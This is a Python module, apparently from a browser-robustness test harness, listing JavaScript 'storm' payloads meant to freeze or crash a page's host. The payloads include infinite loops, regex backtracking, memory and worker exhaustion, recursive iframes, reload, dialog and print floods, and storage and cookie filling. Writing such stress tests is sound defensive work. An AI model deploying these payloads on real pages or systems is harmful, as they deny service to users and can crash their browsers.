"""Too much of everything: a page that wants the post to stop, or to fall over and show what is under it."""

from __future__ import annotations

from typing import Any

from proof.escapes.pages.grabs import DIALOGS
from proof.escapes.pages.page_technique import PageTechnique
from proof.escapes.technique import Way

WAITS = "guest-waits-for-its-page"
"""Weakness: a guest that asks its page and stands still until it answers."""
WORKS = "guest-works-through-every-word"
"""Weakness: a guest that never comes to an end of what its page says by titles, addresses, messages and cookies."""


def _storm(name: str, title: str, js: str, weakness: str = WAITS, **more: Any) -> PageTechnique:
    return PageTechnique(
        id=f"PG-STORM-{name}",
        title=title,
        tries="stop the post, or bring down what lies over the system",
        family="page: storms",
        js=js,
        shows=(Way.FROZEN, Way.SHELL, Way.WINDOW),
        weakness=weakness,
        **more,
    )


def _endless(name: str, title: str, js: str, **more: Any) -> PageTechnique:
    """After which the page itself answers no more."""
    return _storm(name, title, f"await tried(); await sleep(100); {js}", lasts=2.0, **more)


TECHNIQUES = (
    _endless("LOOP", "a script that never ends", "for (;;) {}", short=True),
    _endless("DEEP", "a pattern that never ends", "/^(a+)+$/.test('a'.repeat(60) + '!'); for (;;) {}"),
    _endless("MEMORY", "all the memory that there is", "const all = []; for (;;) { const one = new Uint8Array(64 << 20); one.fill(1); all.push(one); }"),
    _endless("ELEMENTS", "elements without end", "for (;;) { const box = document.createElement('div'); box.innerHTML = '<p><b>x</b></p>'.repeat(20000); document.body.append(box); }"),
    _endless("WORKERS", "workers without end, none at rest", "const busy = URL.createObjectURL(new Blob(['for(;;){}'])); for (let i = 0; i < 300; i++) new Worker(busy);"),
    _endless("FRAMES", "frames in frames in frames", "const nest = '<script>for(let i=0;i<4;i++){const f=document.createElement(\"iframe\");f.srcdoc=document.documentElement.outerHTML;document.body.append(f)}<\\/script>'; for (;;) { for (let i = 0; i < 4; i++) put('iframe', {srcdoc: '<body>' + nest}); await sleep(1); }"),
    _endless("RELOAD", "a page that loads itself again and again", "setInterval(() => location.reload(), 5); for (let i = 0; i < 2000; i++) { location.href = '#' + i; }", weakness=WORKS),
    _endless("HISTORY", "ten thousand pages of the past", "for (let i = 0; i < 10000; i++) { try { history.pushState(null, '', '/x' + i); } catch { await sleep(10); } }", weakness=WORKS),
    _endless("WORDS", "the console, flooded", "const long = '{' + 'x'.repeat(4000); for (let i = 0; i < 60000; i++) console.log(long);", weakness=WORKS),
    _endless("CRASH", "a page whose process runs out of its own memory, and dies", "const all = []; for (let i = 0; ; i++) all.push(new Array(1 << 20).fill(i));"),
    _storm("STORE", "stores filled to the edge", """
        const piece = "x".repeat(1 << 20), within = (ms) => { const end = performance.now() + ms; return () => performance.now() < end; };
        await tried();
        await soon(() => { for (let i = 0; i < 40; i++) localStorage.setItem("k" + i, piece); });
        await soon(async () => { const store = await caches.open("all"); for (let i = 0, more = within(3000); i < 200 && more(); i++) await store.put("/k" + i, new Response(new Blob([piece, piece, piece, piece]))); }, 4000);
        for (let i = 0, more = within(3000); i < 700 && more(); i++) document.cookie = `c${i}=${"v".repeat(3000)};path=/`;
        await sleep(800);""", WORKS, lasts=9.0),
    _storm("TITLE", "a title that changes all the time", "for (let i = 0; i < 4000; i++) document.title = '\\u202e' + i + 'x'.repeat(9000); await sleep(200);", WORKS),
    _storm("REFUSED", "refused sites, one after the other", "await tried(); for (let i = 0; i < 400; i++) { location.href = `https://r${i}.dehors.exercice/`; await sleep(4); } await sleep(500);", WORKS, lasts=3.0),
    _storm("ALERTS", "questions without end", "await tried(); for (let i = 0; i < 1000; i++) alert('Encore ' + i);", DIALOGS, by="click", lasts=1.0, short=True),
    _storm("CONFIRMS", "questions to answer, without end", "await tried(); for (;;) { confirm('Oui ?'); prompt('Quoi ?', 'x'.repeat(90000)); }", DIALOGS, by="click", lasts=1.0),
    _storm("LEAVING", "a page that asks to stay", "onbeforeunload = (event) => { event.preventDefault(); event.returnValue = 'x'; return 'x'; }; await tried(); location.href = '/words?body=x'; ", DIALOGS, by="click", lasts=1.0, short=True),
    _storm("PRINT", "print, print, print", "for (let i = 0; i < 200; i++) print(); await sleep(300);", DIALOGS, by="click"),
    _storm("PRINT-FRAME", "a frame that prints", "const frame = put('iframe', {srcdoc: '<p>x<script>for (let i = 0; i < 50; i++) print()<\\/script>'}); await sleep(600);", DIALOGS),
    _storm("CHOOSER-CLOSES", "a window that goes while it asks for a paper", """
        const made = kid(HOME + '/words?body=' + encodeURIComponent('<input type=file id=f><script>onclick = () => { f.showPicker(); setTimeout(close, 400); }<\\/script>'));
        await sleep(400);""", DIALOGS, by="click", says_so=False, then="click", lasts=2.0),
    _storm("ALERT-CLOSES", "a window that is closed while it speaks", """
        const made = kid(FRIEND + '/words?body=' + encodeURIComponent('<script>setTimeout(() => alert("x"), 300)<\\/script>'));
        await tried(); await sleep(900); made.close(); await sleep(100); made.location = HOME + '/words?body=x'; await sleep(300); made.close();""", DIALOGS, by="click", lasts=2.5),
)  # fmt: skip
